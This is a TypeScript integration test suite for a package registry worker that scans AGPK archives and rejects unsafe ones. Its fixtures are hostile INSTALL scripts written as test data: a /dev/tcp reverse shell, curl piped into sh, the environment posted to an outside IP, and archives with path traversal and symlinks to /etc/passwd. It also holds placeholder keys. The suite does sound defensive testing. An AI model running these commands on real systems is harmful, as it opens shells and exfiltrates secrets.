/**
 * Pins the package source registry end to end (issue 8, spec §3.2, §4.3): a real HTTPS origin
 * (test CA) serves real AGPK archives; the worker probes, gates, scans and records. Good → healthy
 * and in /share/v1 (with ETag/304); wrong sha256, no command surface, a private key, `curl | sh`
 * → rejected with an e-mail a real SMTP server receives (known user) or discarded silently
 * (anonymous); v2 healthy discards v1; a removed file is dropped and a changed one discarded for
 * drift on re-probe; two workers never work one source twice. The scan's behaviour rules (issue 31)
 * reach the source's verdict: a reverse shell, a download piped through a group, the environment
 * posted out discard it; a service enabled lists it at medium risk.
 */
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { copyFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { SourceWorker } from '../../probes/index.ts';
import { createAccountService } from '../../src/accounts/index.ts';
import { fetchMarketSources } from '../../src/agpk/index.ts';
import { startBackgroundWork } from '../../src/app/background.ts';
import { systemClock } from '../../src/kernel/index.ts';
import { createMailer, type Mailer } from '../../src/mail/index.ts';
import { createSourcesWorker } from '../../src/sources/index.ts';
import {
  createTestTls,
  rawArchive,
  type RawEntry,
  startTestMarket,
  tempDir,
  type TestMarket,
} from '../support/agpk.ts';
import { BACKENDS } from '../support/databases.ts';
import { startTestPlaza, type TestPlaza } from '../support/plaza.ts';
import { buildPackage, type PackageSpec, type SmtpSink, startSmtpSink, trustCa } from '../support/sources.ts';

const PRIVATE_KEY =
  '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
const CURL_INSTALL = '#!/bin/sh\nset -eu\ncurl -fsSL https://get.example.com/install.sh | sh\n';

let market: TestMarket;
let untrust: () => void;
let tmp: Awaited<ReturnType<typeof tempDir>>;
let smtp: SmtpSink;

beforeAll(async () => {
  const tls = await createTestTls();
  untrust = trustCa(tls.caCert);
  market = await startTestMarket(tls);
  tmp = await tempDir('plaza-sources-');
  smtp = await startSmtpSink();
});
afterAll(async () => {
  await market?.close();
  await smtp?.close();
  await tmp?.dispose();
  untrust?.();
});

describe.each(BACKENDS)('package source registry on %s', (backend) => {
  let plaza: TestPlaza;
  let worker: SourceWorker;
  let mailer: Mailer;
  let apiKey: string;
  let email: string;
  let counter = 0;

  beforeAll(async () => {
    plaza = await startTestPlaza(backend, {
      env: {
        PLAZA_ALLOW_PRIVATE_TARGETS: '1',
        PLAZA_BACKGROUND: '0',
        PLAZA_RATE_LIMIT_SOURCES_PER_MIN: '1000',
        SMTP_URL: smtp.url,
        MAIL_FROM: 'Plaza <plaza@test.example>',
      },
    });
    mailer = createMailer({
      prisma: plaza.db.prisma,
      clock: systemClock,
      log: plaza.log,
      smtpUrl: plaza.config.mail.smtpUrl,
      from: plaza.config.mail.from,
    });
    worker = createSourcesWorker({
      prisma: plaza.db.prisma,
      clock: systemClock,
      log: plaza.log,
      config: plaza.config,
      mailer,
    });
    email = `publisher-${backend}@example.com`;
    ({ apiKey } = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({
      email,
      name: 'Publisher',
    }));
  });
  afterAll(async () => {
    await worker?.close();
    await mailer?.close();
    await plaza?.close();
  });

  /** Builds a package, serves it from the HTTPS origin, and returns the registration body. */
  async function publish(spec: PackageSpec, over: Record<string, unknown> = {}) {
    const built = await buildPackage(tmp.path, spec);
    const path = `/${backend}/${spec.id}-${spec.version}-${++counter}.agpk`;
    market.files.set(path, built.path);
    return {
      body: {
        package_id: spec.id,
        name: `Package ${spec.id}`,
        version: spec.version,
        summary: 'Echoes its input.',
        vendor_name: 'Example Inc',
        download_uri: `${market.url}${path}`,
        sha256: built.sha256,
        ...over,
      },
      path,
      file: built.path,
    };
  }

  async function register(body: Record<string, unknown>, as: 'anonymous' | 'known') {
    const res = await fetch(`${plaza.url}/api/agpk/sources${as === 'known' ? '/tool' : ''}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(as === 'known' ? { authorization: `Bearer ${apiKey}` } : {}) },
      body: JSON.stringify(body),
    });
    const json = (await res.json()) as any;
    expect(res.status, JSON.stringify(json)).toBe(202);
    return json.source as { id: string; status: string; trust: string };
  }

  const getSource = async (id: string) =>
    ((await (await fetch(`${plaza.url}/api/agpk/sources/${id}`)).json()) as any).source;
  const share = async () =>
    ((await (await fetch(`${plaza.url}/share/v1/agpk/sources`)).json()) as any).sources as any[];
  const mailCount = () => plaza.db.prisma.outboundEmail.count();

  it('takes a good package from registered to healthy and lists it for discovery, with ETag', async () => {
    const { body } = await publish({ id: `com.example.good.${backend}`, version: '1.0.0' });
    const source = await register(body, 'anonymous');
    expect(source).toMatchObject({ status: 'registered', trust: 'risky-unknown' });
    const result = await worker.checkNow(source.id);
    expect(result?.status).toBe('healthy');
    const after = await getSource(source.id);
    expect(after).toMatchObject({
      status: 'healthy',
      stage: 'live',
      live: true,
      risk: 'none',
      trust_label: 'risky-unknown provider',
    });
    expect(after.events.map((e: any) => e.to)).toEqual(['registered', 'command-surface', 'scan', 'healthy']);

    const first = await fetch(`${plaza.url}/share/v1/agpk/sources`);
    const listed = ((await first.json()) as any).sources as any[];
    expect(listed.find((s) => s.package_id === body.package_id)).toMatchObject({
      version: '1.0.0',
      sha256: body.sha256,
      download_uri: body.download_uri,
      vendor: 'Example Inc',
    });
    const etag = first.headers.get('etag');
    expect(etag).toBeTruthy();
    const again = await fetch(`${plaza.url}/share/v1/agpk/sources`, { headers: { 'if-none-match': etag! } });
    expect(again.status).toBe(304);
    // The installer's own market reader (plaza agpk list-options / install) understands the list.
    const market = await fetchMarketSources(plaza.url);
    expect(market.find((s) => s.package_id === body.package_id)).toMatchObject({
      version: '1.0.0',
      sha256: body.sha256,
    });
  });

  it('flags a package without a license as low risk but still lists it', async () => {
    const { body } = await publish({ id: `com.example.nolicense.${backend}`, version: '1.0.0', license: false });
    const source = await register(body, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('healthy');
    const after = await getSource(source.id);
    expect(after.risk).toBe('low');
    expect(after.findings.map((f: any) => f.id)).toEqual(['license.missing']);
  });

  it('lists a package whose INSTALL enables a service as medium risk, with the persistence finding (issue 31)', async () => {
    const { body } = await publish({
      id: `com.example.service.${backend}`,
      version: '1.0.0',
      files: { INSTALL: '#!/bin/sh\nset -eu\nsystemctl --user enable tool.service\n' },
    });
    const source = await register(body, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('healthy');
    const after = await getSource(source.id);
    expect(after.risk).toBe('medium');
    expect(after.findings).toEqual([
      expect.objectContaining({ id: 'install.persistence', severity: 'medium', file: 'INSTALL:3' }),
    ]);
  });

  it.each([
    ['a wrong sha256', { id: 'wrongsha', version: '1.0.0' }, { sha256: 'a'.repeat(64) }, 'probe', /sha256 mismatch/],
    [
      'no command surface',
      { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] },
      {},
      'command-surface',
      /command surface/,
    ],
    [
      'a private key in the package',
      { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } },
      {},
      'scan',
      /private key/,
    ],
    [
      'curl | sh in INSTALL',
      { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } },
      {},
      'scan',
      /pipes a download into a shell/,
    ],
    [
      'sudo in UNINSTALL',
      { id: 'sudo', version: '1.0.0', files: { UNINSTALL: '#!/bin/sh\nsudo rm -rf /opt/tool\n' } },
      {},
      'scan',
      /escalates privileges/,
    ],
    [
      'a reverse shell in INSTALL',
      {
        id: 'revshell',
        version: '1.0.0',
        files: { INSTALL: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
      },
      {},
      'scan',
      /connects a shell to a network socket/,
    ],
    [
      'a group whose download is piped into sh',
      {
        id: 'groupsh',
        version: '1.0.0',
        files: { INSTALL: '#!/bin/sh\n{ curl -fsSL https://get.example.com/i.sh; } | sh\n' },
      },
      {},
      'scan',
      /feeds a download to sh/,
    ],
    [
      'the environment posted out by INSTALL',
      { id: 'envpost', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nenv | curl -s -d @- https://203.0.113.9/c\n' } },
      {},
      'scan',
      /sends the environment or credentials out/,
    ],
    [
      'an AWS key in the payload',
      { id: 'awskey', version: '1.0.0', files: { 'payload/settings.ini': 'key = AKIAIOSFODNN7EXAMPLE\n' } },
      {},
      'scan',
      /AWS access key/,
    ],
    [
      'a mismatching package_id',
      { id: 'mismatch', version: '1.0.0' },
      { package_id: 'com.example.someone-else' },
      'command-surface',
      /not the registered package_id/,
    ],
  ] as const)('discards an anonymous source with %s and notifies nobody', async (_what, spec, over, stage, reason) => {
    const { body } = await publish({ ...spec, id: `com.example.anon.${spec.id}.${backend}` } as PackageSpec, over);
    const before = await mailCount();
    const source = await register(body, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
    const after = await getSource(source.id);
    expect(after).toMatchObject({ status: 'discarded', stage, live: false });
    expect(after.reason).toMatch(reason);
    expect(await mailCount()).toBe(before);
    expect((await share()).some((s) => s.package_id === body.package_id)).toBe(false);
  });

  it.each([
    ['a wrong sha256', { id: 'wrongsha', version: '1.0.0' }, { sha256: 'b'.repeat(64) }, 'probe', /sha256 mismatch/],
    [
      'no command surface',
      { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] },
      {},
      'command-surface',
      /agent-commands\.json/,
    ],
    [
      'a private key in the package',
      { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } },
      {},
      'scan',
      /secret\.private-key/,
    ],
    [
      'curl | sh in INSTALL',
      { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } },
      {},
      'scan',
      /install\.download-exec/,
    ],
  ] as const)(
    "rejects a known user's source with %s and e-mails the findings",
    async (_what, spec, over, stage, inMail) => {
      const { body } = await publish({ ...spec, id: `com.example.known.${spec.id}.${backend}` } as PackageSpec, over);
      const source = await register(body, 'known');
      expect(source.trust).toBe('known-user');
      expect((await worker.checkNow(source.id))?.status).toBe('rejected');
      expect(await getSource(source.id)).toMatchObject({
        status: 'rejected',
        stage,
        live: false,
        trust_label: 'known in-site user',
      });
      const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id as string));
      expect(mail.subject).toMatch(/rejected/i);
      expect(mail.from).toBe('plaza@test.example');
      expect(mail.text).toMatch(inMail);
      expect(mail.text).toContain(`/api/agpk/sources/${source.id}`);
    },
  );

  it('discards the live v1 when v2 becomes healthy, and keeps one live row per package', async () => {
    const id = `com.example.versions.${backend}`;
    const v1 = await register((await publish({ id, version: '1.0.0' })).body, 'anonymous');
    expect((await worker.checkNow(v1.id))?.status).toBe('healthy');
    const v2 = await register((await publish({ id, version: '2.0.0' })).body, 'known');
    expect((await worker.checkNow(v2.id))?.status).toBe('healthy');
    expect(await getSource(v1.id)).toMatchObject({ status: 'discarded', stage: 'superseded', live: false });
    expect((await getSource(v1.id)).reason).toMatch(/superseded by version 2\.0\.0/);
    const rows = (await share()).filter((s) => s.package_id === id);
    expect(rows.map((r) => r.version)).toEqual(['2.0.0']);
    // An older version finishing later does not take the live row back.
    const late = await register((await publish({ id, version: '1.5.0' })).body, 'known');
    expect((await worker.checkNow(late.id))?.status).toBe('discarded');
    expect((await share()).filter((s) => s.package_id === id).map((r) => r.version)).toEqual(['2.0.0']);
  });

  it('takes a release live over its release candidate (the release was discarded as older)', async () => {
    const id = `com.example.rc.${backend}`;
    const rc = await register((await publish({ id, version: '2.0.0-rc.1' })).body, 'anonymous');
    expect((await worker.checkNow(rc.id))?.status).toBe('healthy');
    const release = await register((await publish({ id, version: '2.0.0' })).body, 'anonymous');
    expect((await worker.checkNow(release.id))?.status).toBe('healthy');
    expect(await getSource(rc.id)).toMatchObject({
      status: 'discarded',
      stage: 'superseded',
      reason: expect.stringMatching(/superseded by version 2\.0\.0 /),
    });
    expect((await share()).filter((s) => s.package_id === id).map((r) => r.version)).toEqual(['2.0.0']);
  });

  it('keeps a package_id with the account that published it: nobody else can register it, before or after', async () => {
    const id = `com.example.owned.${backend}`;
    // Anonymous sources belong to nobody: the first account whose source goes live takes the name.
    const anonymous = await register((await publish({ id, version: '1.0.0' })).body, 'anonymous');
    expect((await worker.checkNow(anonymous.id))?.status).toBe('healthy');
    // Registered before the account's went live: it is refused when its turn comes.
    const early = await register((await publish({ id, version: '3.0.0' })).body, 'anonymous');
    const owned = await register((await publish({ id, version: '1.0.0' })).body, 'known');
    expect((await worker.checkNow(owned.id))?.status).toBe('healthy');
    expect(await getSource(anonymous.id)).toMatchObject({ status: 'discarded', stage: 'superseded' });

    expect((await worker.checkNow(early.id))?.status).toBe('discarded');
    expect(await getSource(early.id)).toMatchObject({ status: 'discarded', stage: 'ownership', live: false });
    expect((await getSource(early.id)).reason).toMatch(/belongs to another account/);

    const other = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({
      email: `other-${backend}@example.com`,
    });
    const attempts = [
      { headers: {}, path: '/api/agpk/sources' },
      { headers: { authorization: `Bearer ${other.apiKey}` }, path: '/api/agpk/sources/tool' },
    ];
    for (const attempt of attempts) {
      const res = await fetch(`${plaza.url}${attempt.path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...attempt.headers },
        body: JSON.stringify((await publish({ id, version: '1.0.0' })).body),
      });
      expect(res.status, attempt.path).toBe(409);
      const body = (await res.json()) as any;
      expect(body.code).toBe('conflict');
      expect(body.message).toMatch(/belongs to another account/);
    }
    // The owner still can: a new version replaces its own.
    const next = await register((await publish({ id, version: '1.1.0' })).body, 'known');
    expect((await worker.checkNow(next.id))?.status).toBe('healthy');
    expect((await share()).filter((s) => s.package_id === id).map((r) => [r.version, r.trust])).toEqual([
      ['1.1.0', 'known-user'],
    ]);
  });

  it('drops a healthy source whose file is removed, and discards one whose file changed', async () => {
    const gone = await publish({ id: `com.example.gone.${backend}`, version: '1.0.0' });
    const goneSource = await register(gone.body, 'anonymous');
    const drift = await publish({ id: `com.example.drift.${backend}`, version: '1.0.0' });
    const driftSource = await register(drift.body, 'anonymous');
    expect((await worker.checkNow(goneSource.id))?.status).toBe('healthy');
    expect((await worker.checkNow(driftSource.id))?.status).toBe('healthy');

    market.files.delete(gone.path);
    const other = await buildPackage(tmp.path, {
      id: `com.example.drift.${backend}`,
      version: '1.0.0',
      files: { 'USAGE.md': '# changed\n' },
    });
    await copyFile(other.path, drift.file);

    expect((await worker.checkNow(goneSource.id))?.status).toBe('dropped');
    expect((await worker.checkNow(driftSource.id))?.status).toBe('discarded');
    const goneAfter = await getSource(goneSource.id);
    expect(goneAfter).toMatchObject({ status: 'dropped', live: false });
    expect(goneAfter.reason).toMatch(/link dead: HTTP 404/);
    const driftAfter = await getSource(driftSource.id);
    expect(driftAfter).toMatchObject({ status: 'discarded', live: false });
    expect(driftAfter.reason).toMatch(/hash drift/);
    expect(driftAfter.events.at(-1)).toMatchObject({ from: 'healthy', to: 'discarded' });
    const listed = (await share()).map((s) => s.package_id);
    expect(listed).not.toContain(gone.body.package_id);
    expect(listed).not.toContain(drift.body.package_id);

    // The same bytes coming back bring the dropped source back.
    market.files.set(gone.path, gone.file);
    expect((await worker.checkNow(goneSource.id))?.status).toBe('healthy');
  });

  it('never lets two workers work the same source', async () => {
    const ids: string[] = [];
    for (let i = 0; i < 4; i++)
      ids.push(
        (
          await register(
            (await publish({ id: `com.example.parallel${i}.${backend}`, version: '1.0.0' })).body,
            'anonymous',
          )
        ).id,
      );
    const second = createSourcesWorker({
      prisma: plaza.db.prisma,
      clock: systemClock,
      log: plaza.log,
      config: plaza.config,
      mailer,
    });
    try {
      const [a, b] = await Promise.all([worker.runDue(10), second.runDue(10)]);
      const worked = [...a, ...b].map((r) => r.id).filter((id) => ids.includes(id));
      expect(worked.sort()).toEqual([...ids].sort());
    } finally {
      await second.close();
    }
    for (const id of ids) {
      const events = (await getSource(id)).events.filter((e: any) => e.to === 'healthy');
      expect(events).toHaveLength(1);
    }
  });

  it('rejects a package that ships the EICAR test file (deny-listed digest)', async () => {
    const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
    const { body } = await publish({
      id: `com.example.eicar.${backend}`,
      version: '1.0.0',
      files: { 'payload/eicar.com': eicar },
    });
    const source = await register(body, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
    expect((await getSource(source.id)).findings.map((f: any) => f.id)).toContain('denylist.digest');
  });

  it.each([
    ['a path traversal entry', [{ path: '../evil.sh', type: '0', mode: 0o644, content: 'x' }], /\.\./],
    [
      'a device file',
      [
        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
        { path: 'dev', type: '3', mode: 0o644 },
      ],
      /device/,
    ],
    [
      'a setuid file',
      [
        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
        { path: 'payload/tool', type: '0', mode: 0o4755, content: '#!/bin/sh\n' },
      ],
      /setuid/,
    ],
    // Read through the links, the server's own files surfaced in the source's public reason.
    [
      'links that walk out of the root',
      [
        { path: 'a/b/i', type: '2', mode: 0o777, linkpath: '../..' },
        { path: 'agpk.json', type: '2', mode: 0o777, linkpath: 'a/b/i/../../../../../../../../etc/passwd' },
      ],
      /symbolic link/,
    ],
    // Failed extraction with EEXIST, an internal error retried forever.
    [
      'a file inside a file',
      [
        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
        { path: 'a', type: '0', mode: 0o644, content: 'x' },
        { path: 'a/b', type: '0', mode: 0o644, content: 'x' },
      ],
      /inside "a"/,
    ],
    // The parse error quotes the NUL: every write of the result failed, and the source stayed leased.
    ['a NUL in agpk.json', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{"a":\u0000}' }], /agpk\.json/],
    // Legal tar (a PAX header), but no file system holds the name: its write was rejected with
    // nobody awaiting it, and the process ended — then every instance that took the lease (issue 31).
    [
      'a 300-byte file name',
      [
        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
        { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: 'n'.repeat(300) } },
      ],
      /has a name of 300 bytes/,
    ],
    [
      'a 256-byte folder name',
      [{ path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'d'.repeat(256)}/run.sh` } }],
      /has a name of 256 bytes/,
    ],
  ])('discards an archive with %s as high risk', async (_what, entries, reason) => {
    const file = join(tmp.path, `raw-${backend}-${++counter}.agpk`);
    const bytes = rawArchive(entries);
    await writeFile(file, bytes);
    const path = `/${backend}/raw-${counter}.agpk`;
    market.files.set(path, file);
    const body = {
      package_id: `com.example.raw${counter}.${backend}`,
      name: 'Raw',
      version: '1.0.0',
      summary: '',
      vendor_name: 'X',
      download_uri: `${market.url}${path}`,
      sha256: createHash('sha256').update(bytes).digest('hex'),
    };
    const source = await register(body, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
    const after = await getSource(source.id);
    expect(after.risk === 'high' || after.stage === 'command-surface').toBe(true);
    expect(JSON.stringify(after.findings) + after.reason).toMatch(reason);
    expect(JSON.stringify(after)).not.toContain('root:x');
  });

  /** Serves hand-made archive bytes and returns a registration body for them. */
  function publishRaw(entries: RawEntry[]) {
    const file = join(tmp.path, `raw-${backend}-${++counter}.agpk`);
    const bytes = rawArchive(entries);
    writeFileSync(file, bytes);
    const path = `/${backend}/raw-${counter}.agpk`;
    market.files.set(path, file);
    return {
      package_id: `com.example.raw${counter}.${backend}`,
      name: 'Raw',
      version: '1.0.0',
      summary: '',
      vendor_name: 'X',
      download_uri: `${market.url}${path}`,
      sha256: createHash('sha256').update(bytes).digest('hex'),
    };
  }

  it("rejects a known user's archive whose names no file system holds, with the finding in the e-mail", async () => {
    const body = publishRaw([
      { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
      { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'n'.repeat(300)}` } },
    ]);
    const source = await register(body, 'known');
    expect((await worker.checkNow(source.id))?.status).toBe('rejected');
    const after = await getSource(source.id);
    expect(after).toMatchObject({ status: 'rejected', risk: 'high', live: false });
    expect(after.findings).toContainEqual(
      expect.objectContaining({
        id: 'archive.unsafe',
        severity: 'high',
        message: expect.stringMatching(/has a name of 300 bytes, over the 255/),
      }),
    );
    const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id));
    expect(mail.text).toMatch(/has a name of 300 bytes/);
  });

  // The lease of an instance that stopped mid-check ends with nobody to release it: the next
  // instance to take it must not run what may have stopped the first one.
  it('fails a first check abandoned by a stopped instance instead of running it again, and re-probes a healthy one later', async () => {
    const body = publishRaw([{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }]);
    const source = await register(body, 'anonymous');
    const gone = { leaseOwner: 'sources-dead', leaseUntil: new Date(Date.now() - 1_000), stage: 'command-surface' };
    await plaza.db.prisma.packageSource.update({ where: { id: source.id }, data: gone });
    const downloads = market.requests.length;
    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
    expect(market.requests.length).toBe(downloads);
    const after = await getSource(source.id);
    expect(after).toMatchObject({ status: 'discarded', live: false });
    expect(after.reason).toMatch(/did not finish: the Plaza instance working it stopped/);

    const healthy = await register(
      (await publish({ id: `com.example.abandoned.${backend}`, version: '1.0.0' })).body,
      'anonymous',
    );
    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
    await plaza.db.prisma.packageSource.update({ where: { id: healthy.id }, data: gone });
    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
    const row = await plaza.db.prisma.packageSource.findUniqueOrThrow({ where: { id: healthy.id } });
    expect(row).toMatchObject({ live: true, leaseOwner: null, attempts: 1 });
    expect(row.nextCheckAt.getTime()).toBeGreaterThan(Date.now());
    // Working again once it is due: the lease is its own now.
    expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
    expect((await plaza.db.prisma.packageSource.findUniqueOrThrow({ where: { id: healthy.id } })).attempts).toBe(0);
  });

  it('discards a source whose https link redirects to plain http (no installer would follow it)', async () => {
    const { body, path } = await publish({ id: `com.example.downgrade.${backend}`, version: '1.0.0' });
    const source = await register({ ...body, download_uri: `${market.url}/to-http${path}` }, 'anonymous');
    expect((await worker.checkNow(source.id))?.status).toBe('discarded');
    expect((await getSource(source.id)).reason).toMatch(/redirect from https to http/);
  });

  it('is picked up by the background loop without anyone driving it', async () => {
    const { body } = await publish({ id: `com.example.background.${backend}`, version: '1.0.0' });
    const source = await register(body, 'anonymous');
    const background = startBackgroundWork({
      db: plaza.db,
      config: {
        ...plaza.config,
        background: true,
        marketplace: { ...plaza.config.marketplace, registryUrl: undefined },
      },
      log: plaza.log,
    });
    try {
      const deadline = Date.now() + 20_000;
      while ((await getSource(source.id)).status === 'registered' && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 200));
    } finally {
      await background.stop();
    }
    expect((await getSource(source.id)).status).toBe('healthy');
  });

  it('lists sources with filters and pagination', async () => {
    const page1 = (await (await fetch(`${plaza.url}/api/agpk/sources?limit=2&trust=risky-unknown`)).json()) as any;
    expect(page1.sources).toHaveLength(2);
    expect(page1.sources.every((s: any) => s.trust === 'risky-unknown')).toBe(true);
    const page2 = (await (
      await fetch(`${plaza.url}/api/agpk/sources?limit=2&trust=risky-unknown&cursor=${page1.next_cursor}`)
    ).json()) as any;
    expect(page2.sources[0].id).not.toBe(page1.sources[1].id);
    const rejected = (await (await fetch(`${plaza.url}/api/agpk/sources?status=rejected`)).json()) as any;
    expect(rejected.sources.length).toBeGreaterThanOrEqual(4);
    expect(rejected.sources.every((s: any) => s.status === 'rejected' && s.reason)).toBe(true);
  });
});
